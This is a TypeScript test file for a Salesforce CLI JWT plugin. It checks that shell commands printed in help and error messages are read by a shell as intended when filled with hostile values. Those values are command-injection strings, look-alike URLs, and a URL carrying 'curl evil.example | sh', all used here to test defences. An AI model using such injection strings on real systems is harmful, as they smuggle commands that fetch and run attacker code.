import { expect } from 'chai';
import { commandSpan, fillNamed } from '../../../src/base/text/commandText.ts';
import { jwtError, type JwtErrorKey } from '../../../src/base/errors/errors.ts';
import { errorTable } from '../../../src/base/errors/errorTable.ts';
import { foreignText } from '../../../src/base/text/foreignText.ts';
import { Messages } from '../../../src/base/text/messages.ts';
import { namedTexts } from '../../../src/base/text/namedTexts.ts';
import { handOffText } from '../../../src/flows/export/handOff/handOffTexts.ts';
import { findingText } from '../../../src/flows/inspect/texts.ts';
import { checkText } from '../../../src/flows/checkTexts.ts';
import { explainText } from '../../../src/login/explain/texts.ts';
import { loginText, loginTexts } from '../../../src/login/texts.ts';
import { messageTexts, type MessageText } from '../../tools/messageTexts.ts';
import { hear } from '../../tools/shellWitness.ts';

Messages.importMessagesDirectoryFromMetaUrl(import.meta.url);

const token = /%s|\{\w+\}/g;
const has = (text: string): boolean => text.search(token) >= 0;

/** Words that a person may take for the beginning of a command, whatever stands before them. */
const programWords =
  /(?<![\w-.])(?:sf|gh|git|chmod|chown|icacls|openssl|keytool|ssh-keygen|puttygen|npm|npx|cat|rm|curl)(?= )/g;

/** Sentences about sf. */
const prose = ['sf has no login', 'sf has several logins'];

/** The one text of a list or section, filled by the function that fills it in the product. */
const shown = ({ file, key, text }: MessageText, value: string): string => {
  const named = Object.fromEntries((text.match(/\{\w+\}/g) ?? []).map((name) => [name.slice(1, -1), value]));
  const pick = (texts: string[]): string => texts.find((each) => filledPattern(text).test(each)) ?? '';
  if (file === 'errors') {
    const error = jwtError(key.replace(/\.actions$/, '') as JwtErrorKey, Array(9).fill(value), Array(9).fill(value));
    return pick(key.endsWith('.actions') ? (error.actions ?? []) : [error.message]);
  }
  if (file === 'faults') return pick(key.endsWith('.fix') ? loginTexts(key, named) : [loginText(key, named)]);
  if (file === 'checks') return checkText(key, named);
  if (file === 'findings') return findingText(key, named);
  if (file === 'explain') return explainText(key, named);
  if (file === 'nextSteps') return namedTexts('nextSteps').one(key, named);
  if (file === 'doctorCauses' || file === 'doctorView') {
    const { one, all } = namedTexts(file);
    return pick(/\.fix$|^unlooked\.by/.test(key) ? all(key, named) : [one(key, named)]);
  }
  if (file === 'handOff') return handOffText(key, named);
  return pick(Messages.loadMessages('sf-plugin-jwt', file).getMessages(key, Array(9).fill(value)));
};

const escaped = (text: string): string => text.replace(/[.*+?^${}()|[\]\\]/g, String.raw`\$&`);
const patternOf = (text: string): string => text.split(token).map(escaped).join('[^]*?');

/** Quotes are around whole words, and a flag may be joined to its value. */
const commandPattern = (command: string): string =>
  patternOf(command.replace(/[^\s"]*(?:%s|\{\w+\})[^\s"]*/g, '%s')).replaceAll(' [^]*?', '[ =][^]*?');

/** The text with anything for its tokens; each command in it is a group. */
const filledPattern = (text: string): RegExp => {
  let [source, end] = ['', 0];
  for (const { 0: command, index } of text.matchAll(commandSpan)) {
    source += `${patternOf(text.slice(end, index))}(${commandPattern(command)})`;
    end = index + command.length;
  }
  return new RegExp(`^${source}${patternOf(text.slice(end))}$`);
};

const commandsIn = (text: string): string[] => [...text.matchAll(commandSpan)].map(([command]) => command);

/** A command as one pastes it: without the quote before it, and with a word for what is to be filled in. */
const pasted = (command: string): string => command.replace(/^["`]/, '').replace(/<[^<>]+>/g, 'FILL-IN');

const withCommands = messageTexts.filter(({ text }) => commandsIn(text).some(has));

/** The words that a person would expect, each program with its own. */
const expectedWords = (template: string, value: string): string[][] =>
  pasted(template)
    .split(' | ')
    .map((part) => part.split(' ').map((word) => word.replaceAll('"', '').replace(token, () => value)))
    .sort();

/** `--flag=-x` is two words for whoever reads flags. */
const flagsApart = (words: string[]): string[] =>
  words.flatMap((word) => {
    const [, flag, value] = /^(--[\w-]+)=(-[^]*)$/.exec(word) ?? [];
    return flag && value ? [flag, value] : [word];
  });

const isFillIn = (word: string): boolean => word.includes('FILL-IN');

const hostile = {
  'a semicolon and a substitution': ';$(touch x) #',
  'a substitution in backquotes': '`id`',
  quotes: `' "`,
  'quotes around a command': `';touch x;'`,
  'what a shell would expand': '~/*?[a]{b,c}$HOME',
  'a pipe and a redirect': 'a|touch x>y&',
  'an equals sign at its beginning': '=touch',
  'a backslash': 'a\\',
  'a flag': '--flag',
} as const;

/** These can't be written into a command; something to fill in stands for them. */
const unwritable = {
  'a line break and a command': 'x\ntouch x',
  'an escape sequence': '\u001b[2Jx',
  'a right-to-left override': 'a\u202eb',
  'a URL of nobody': 'https://evil.example.com',
  'a look-alike': 'https://acme.my.salesforce.com.evil.example',
  'a URL with a command': 'https://acme.my.salesforce.com --alias x; curl evil.example | sh #',
  'a session id': `00D5g000001abcD!${'aB3.'.repeat(10)}`,
} as const;

describe('a command that is printed', () => {
  it('is found wherever a text with a value names a program', () => {
    expect(withCommands.length).to.be.greaterThan(60);
    for (const { file, key, text } of messageTexts)
      for (const line of text.split('\n'))
        for (const { index } of line.matchAll(programWords)) {
          const rest = line.slice(index);
          if (!has(rest) || prose.some((words) => rest.startsWith(words))) continue;
          const inQuotes = /"[^"]*$/.test(line.slice(0, index)) ? rest.slice(0, rest.indexOf('"')) : rest;
          if (has(inQuotes)) expect(commandsIn(line).join('\n'), `${file} ${key}`).to.include(inQuotes);
        }
  });

  it('has no sign behind a value that would become part of it', () => {
    for (const { file, key, text } of withCommands)
      for (const command of commandsIn(text)) expect(command, `${file} ${key}`).not.to.match(/(?:%s|\})[.,;:)](?!\w)/);
  });

  it('is looked for in the texts of all errors', () => {
    expect(Object.keys(errorTable)).to.include.members(
      withCommands.filter(({ file }) => file === 'errors').map(({ key }) => key.replace(/\.actions$/, '')),
    );
  });

  for (const [what, value] of Object.entries({ ...hostile, ...unwritable }))
    it(`is read by a shell as it is meant, with ${what} for every value`, () => {
      const printed = withCommands.flatMap((message) => {
        const found = filledPattern(message.text).exec(shown(message, value))?.slice(1) ?? [];
        const templates = commandsIn(message.text);
        expect(found, `${message.file} ${message.key}`).to.have.length(templates.length);
        return templates.map((template, at) => ({ template, command: pasted(found[at] ?? ''), message }));
      });
      const { heard, files, complaints } = hear(printed.map(({ command }) => command));
      expect(files).to.deep.equal([]);
      expect(complaints).to.equal('');
      printed.forEach(({ template, command, message }, at) => {
        const where = `${message.file} ${message.key}: ${command}`;
        const commands = heard[at]?.commands.map(flagsApart) ?? [];
        const expected = expectedWords(template, value);
        expect(heard[at]?.status, where).to.equal(0);
        expect(
          commands.map(({ length }) => length),
          where,
        ).to.deep.equal(expected.map(({ length }) => length));
        commands.flat().forEach((word, index) => {
          const meant = expected.flat()[index] ?? '';
          if (what in unwritable && meant.includes(value)) expect(word, where).to.satisfy(isFillIn);
          else if (!isFillIn(word)) expect(word, where).to.equal(meant);
          else if (!isFillIn(meant))
            expect(what === 'a flag' || template.includes('--instance-url'), where).to.equal(true);
        });
      });
    });

  it('holds a URL of Salesforce, and one that the environment allows', () => {
    const actions = (url: string) => jwtError('AdminLoginMissing', ['acme', url], [url, 'acme']).actions?.[0];
    expect(actions('https://acme--uat.sandbox.lightning.force.com')).to.include(
      '--instance-url https://acme--uat.sandbox.my.salesforce.com --alias acme-admin',
    );
    expect(actions('https://sso.acme.example')).to.include(
      '--instance-url <instance URL of the org> --alias acme-admin',
    );
    const before = process.env.SF_JWT_ALLOWED_HOSTS;
    process.env.SF_JWT_ALLOWED_HOSTS = 'sso.acme.example';
    try {
      expect(actions('https://sso.acme.example')).to.include('--instance-url https://sso.acme.example --alias');
    } finally {
      if (before === undefined) delete process.env.SF_JWT_ALLOWED_HOSTS;
      else process.env.SF_JWT_ALLOWED_HOSTS = before;
    }
  });

  it('is made safe for the place of the text as well', () => {
    const show = (text: string): string => foreignText(text, 'markdown');
    const text = fillNamed(
      'Run: sf jwt verify --connection {a} --alias {b}',
      { a: 'a*b' },
      { show, missing: () => '<b>' },
    );
    expect(text).to.equal(String.raw`Run: sf jwt verify --connection 'a\*b' --alias \<b\>`);
  });
});
